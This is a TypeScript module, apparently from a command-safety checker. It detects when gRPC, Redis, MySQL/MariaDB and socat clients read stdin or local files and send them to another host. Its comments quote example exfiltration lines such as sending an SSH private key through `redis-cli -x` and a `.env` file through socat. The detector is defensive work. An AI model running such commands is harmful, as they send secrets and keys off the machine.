// What clients other than the HTTP ones send besides the words of their command, read by the rule that judges
// curl's `-d @- URL < .env` (sendFindings):
// - gRPC: grpcurl's and ghz's `-d @` read the request from stdin; ghz's `-D`/`--data-file`, `-B`/`--binary-file` and
//   `-M`/`--metadata-file` read it from a file; grpc_cli's `call` reads `--infile` or, with no request text, stdin.
// - redis-cli's `-x` sends stdin as the command's last argument (`redis-cli -x SET k < ~/.ssh/id_rsa`), and `--pipe`
//   sends it as commands.
// - mysql's and mariadb's `LOAD DATA LOCAL INFILE 'F'` (and `LOAD XML`) make the client read F on this machine and send
//   it to the server.
// - socat's `FILE:`/`OPEN:`/`GOPEN:` address is a file it reads and hands to the other address (`socat FILE:.env TCP:h:80`).
import { optionValues, positionals } from '../../command/args';
import { GRPC_CLI_VALUES } from '../common/grpcOptions';

export interface ClientInputs {
  stdin: boolean;
  files: string[];
}

/** Clients read here, each judged as sending its inputs to another host. */
export const OTHER_SENDERS: ReadonlySet<string> = new Set([
  'grpcurl',
  'ghz',
  'grpc_cli',
  'redis-cli',
  'mysql',
  'mariadb',
]);

const LOCAL_INFILE = /\bLOAD\s+(?:DATA|XML)\s+(?:LOW_PRIORITY\s+|CONCURRENT\s+)?LOCAL\s+INFILE\s+(['"])(.*?)\1/gi;
/** SQL read for LOCAL INFILE, and the files taken from it. */
const MAX_SQL = 64 * 1024;
const MAX_FILES = 16;

/** Go's flag package also spells a value `-d=@` and `--d @`. */
const value = (v: string) => (v.startsWith('=') ? v.slice(1) : v);

/** Whether the client reads what it sends on stdin, and the files it sends. */
export function clientInputs(argv: readonly string[]): ClientInputs {
  switch (argv[0]) {
    case 'grpc_cli': {
      if (argv[1] !== 'call') return { stdin: false, files: [] };
      const infile = optionValues(argv, ['--infile', '-infile']).map(value);
      const request = positionals(argv, GRPC_CLI_VALUES, 2)[2];
      return { stdin: infile.length === 0 && request === undefined, files: infile };
    }
    case 'mysql':
    case 'mariadb': {
      const sql = optionValues(argv, ['-e', '--execute']).join('\n').slice(0, MAX_SQL);
      const files = [...sql.matchAll(LOCAL_INFILE)].slice(0, MAX_FILES).map((m) => m[2]);
      return { stdin: false, files };
    }
    case 'redis-cli':
      return { stdin: argv.includes('-x') || argv.includes('--pipe'), files: [] };
    case 'ghz': {
      const files = optionValues(argv, ['-D', '--data-file', '-B', '--binary-file', '-M', '--metadata-file']);
      return { stdin: optionValues(argv, ['-d', '--data']).includes('@'), files };
    }
    default:
      return { stdin: optionValues(argv, ['-d', '--d']).map(value).includes('@'), files: [] };
  }
}

/** The files socat's addresses read: `FILE:PATH`, `OPEN:PATH`, `GOPEN:PATH`, and a bare path (options after `,`). */
export function socatFiles(argv: readonly string[]): string[] {
  const out: string[] = [];
  for (const a of positionals(argv)) {
    const m = /^(?:(?:FILE|OPEN|GOPEN):)?([^:,]+)(?:,|$)/i.exec(a);
    if (m && (a.includes(':') || a.includes('/') || a.startsWith('.')) && m[1] !== '-') out.push(m[1]);
  }
  return out;
}
